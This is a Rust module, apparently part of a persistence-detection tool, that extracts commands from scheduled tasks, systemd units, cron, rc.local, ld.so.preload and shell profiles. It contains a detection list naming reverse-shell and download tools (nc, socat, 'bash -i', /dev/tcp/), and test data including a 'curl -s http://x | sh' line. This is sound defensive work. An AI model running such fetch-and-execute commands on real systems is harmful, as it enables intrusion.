//! Autostart entries in text files: Windows scheduled tasks (XML, usually UTF-16) and Linux
//! systemd units, cron tables, `rc.local`, `/etc/ld.so.preload` and shell profile hooks.
//! Every file is hostile: contents are cut to [`MAX_TEXT`] and lines counted.

use super::Raw;

/// Most bytes of one text file looked at.
pub const MAX_TEXT: usize = 1 << 20;
/// Most entries taken from one text file.
const MAX_PER_FILE: usize = 64;

/// UTF-16 (with BOM, or guessed from NULs) or UTF-8 bytes to text, lossily.
pub fn decode(bytes: &[u8]) -> String {
    let b = &bytes[..bytes.len().min(MAX_TEXT)];
    let utf16 = |b: &[u8], le: bool| {
        let units: Vec<u16> = b
            .chunks_exact(2)
            .map(|c| {
                if le {
                    u16::from_le_bytes([c[0], c[1]])
                } else {
                    u16::from_be_bytes([c[0], c[1]])
                }
            })
            .collect();
        String::from_utf16_lossy(&units)
    };
    if let Some(r) = b.strip_prefix(&[0xff, 0xfe]) {
        utf16(r, true)
    } else if let Some(r) = b.strip_prefix(&[0xfe, 0xff]) {
        utf16(r, false)
    } else if b.len() >= 2 && b[1] == 0 && b[0] != 0 {
        utf16(b, true)
    } else {
        let r = b.strip_prefix(&[0xef, 0xbb, 0xbf]).unwrap_or(b);
        String::from_utf8_lossy(r).into_owned()
    }
}

fn unescape_xml(s: &str) -> String {
    s.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The `<Exec>` actions of a task: `<Command>` followed by its `<Arguments>`.
pub fn task(bytes: &[u8]) -> Vec<Raw> {
    let text = decode(bytes);
    let mut out = Vec::new();
    let mut rest = text.as_str();
    while let Some(i) = rest.find("<Command>") {
        rest = &rest[i + "<Command>".len()..];
        let Some(end) = rest.find("</Command>") else {
            break;
        };
        let cmd = unescape_xml(rest[..end].trim());
        rest = &rest[end..];
        // Arguments belong to the same <Exec> when they come before the next <Command>.
        let next = rest.find("<Command>").unwrap_or(rest.len());
        let args = rest[..next]
            .find("<Arguments>")
            .and_then(|a| {
                let r = &rest[a + "<Arguments>".len()..next];
                r.find("</Arguments>").map(|e| unescape_xml(r[..e].trim()))
            })
            .unwrap_or_default();
        let quoted = if cmd.contains(' ') && !cmd.starts_with('"') {
            format!("\"{cmd}\"")
        } else {
            cmd
        };
        let line = super::printable(&format!("{quoted} {args}"));
        if !line.is_empty() {
            out.push(Raw {
                kind: "scheduled_task",
                source: String::new(),
                command: line,
                start: None,
            });
        }
        if out.len() >= MAX_PER_FILE {
            break;
        }
    }
    out
}

fn lines(bytes: &[u8]) -> impl Iterator<Item = String> {
    decode(bytes)
        .lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(super::printable)
        .take(100_000)
        .collect::<Vec<_>>()
        .into_iter()
}

fn line_raw(kind: &'static str, n: usize, command: String) -> Raw {
    Raw {
        kind,
        source: format!("line {n}"),
        command,
        start: None,
    }
}

/// `ExecStart*=`/`ExecStop*=`/`ExecReload=` lines of a systemd unit.
pub fn systemd(bytes: &[u8]) -> Vec<Raw> {
    lines(bytes)
        .enumerate()
        .filter_map(|(n, l)| {
            let (k, v) = l.split_once('=')?;
            let k = k.trim();
            (k.starts_with("ExecStart") || k.starts_with("ExecStop") || k == "ExecReload")
                .then(|| line_raw("systemd", n + 1, v.trim().to_string()))
        })
        .filter(|r| !r.command.is_empty())
        .take(MAX_PER_FILE)
        .collect()
}

/// Commands of a cron table; `system` tables (`/etc/crontab`, `/etc/cron.d`) have a user
/// field after the schedule.
pub fn cron(bytes: &[u8], system: bool) -> Vec<Raw> {
    lines(bytes)
        .enumerate()
        .filter_map(|(n, l)| {
            let words: Vec<&str> = l.split_whitespace().collect();
            let first = *words.first()?;
            // Variable assignments (`PATH=...`, `SHELL=...`).
            if first.contains('=') {
                return None;
            }
            let sched = if first.starts_with('@') { 1 } else { 5 };
            let skip = sched + usize::from(system);
            (words.len() > skip).then(|| line_raw("cron", n + 1, words[skip..].join(" ")))
        })
        .take(MAX_PER_FILE)
        .collect()
}

/// Every command line of `rc.local` (except `exit 0`), or every library of `ld.so.preload`.
pub fn each_line(bytes: &[u8], kind: &'static str) -> Vec<Raw> {
    lines(bytes)
        .enumerate()
        .filter(|(_, l)| l != "exit 0")
        .map(|(n, l)| line_raw(kind, n + 1, l))
        .take(MAX_PER_FILE)
        .collect()
}

/// Words in a shell profile line that make it worth a look: preloading, downloading, running
/// from temporary places, decoding payloads.
const PROFILE_MARKS: &[&str] = &[
    "ld_preload",
    "curl ",
    "wget ",
    "nohup ",
    "/tmp/",
    "/dev/shm",
    "/var/tmp",
    "base64",
    "nc ",
    "ncat ",
    "socat ",
    "python -c",
    "bash -i",
    "/dev/tcp/",
];

/// Lines of a shell profile (`.bashrc`, `/etc/profile`, ...) that run something suspicious.
pub fn profile(bytes: &[u8]) -> Vec<Raw> {
    lines(bytes)
        .enumerate()
        .filter(|(_, l)| {
            let l = l.to_ascii_lowercase();
            PROFILE_MARKS.iter().any(|m| l.contains(m))
        })
        .map(|(n, l)| line_raw("profile", n + 1, l))
        .take(MAX_PER_FILE)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(s: &str) -> Vec<u8> {
        let mut b = vec![0xff, 0xfe];
        for u in s.encode_utf16() {
            b.extend_from_slice(&u.to_le_bytes());
        }
        b
    }

    #[test]
    fn task_commands_from_utf16_xml() {
        let xml =
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task><Actions Context=\"Author\">\
            <Exec><Command>C:\\Users\\bob\\AppData\\Roaming\\upd.exe</Command>\
            <Arguments>-q &amp; -r</Arguments></Exec>\
            <Exec><Command>%windir%\\system32\\cmd.exe</Command></Exec></Actions></Task>";
        let r = task(&utf16(xml));
        assert_eq!(r.len(), 2);
        assert_eq!(
            r[0].command,
            "C:\\Users\\bob\\AppData\\Roaming\\upd.exe -q & -r"
        );
        assert_eq!(r[1].command, "%windir%\\system32\\cmd.exe");
        assert!(task(b"<Command>unterminated").is_empty());
        assert!(task(&[0xff, 0xfe, 0x00]).is_empty());
    }

    #[test]
    fn linux_sources() {
        let unit = b"[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/x/run --a\nUser=x\n";
        let r = systemd(unit);
        assert_eq!(r.len(), 2);
        assert_eq!(r[1].command, "/opt/x/run --a");
        let tab = b"SHELL=/bin/sh\n# m h\n*/5 * * * * root /tmp/.x/m\n@reboot root /usr/bin/y\n";
        let r = cron(tab, true);
        assert_eq!(r.len(), 2);
        assert_eq!(r[0].command, "/tmp/.x/m");
        assert_eq!(r[1].command, "/usr/bin/y");
        assert_eq!(cron(b"0 1 * * * /bin/z a\n", false)[0].command, "/bin/z a");
        assert_eq!(
            each_line(b"#!/bin/sh\n/opt/a &\nexit 0\n", "rc_local").len(),
            1
        );
        let p = profile(b"alias ll='ls -l'\ncurl -s http://x | sh\n");
        assert_eq!(p.len(), 1);
        assert_eq!(p[0].source, "line 2");
    }
}
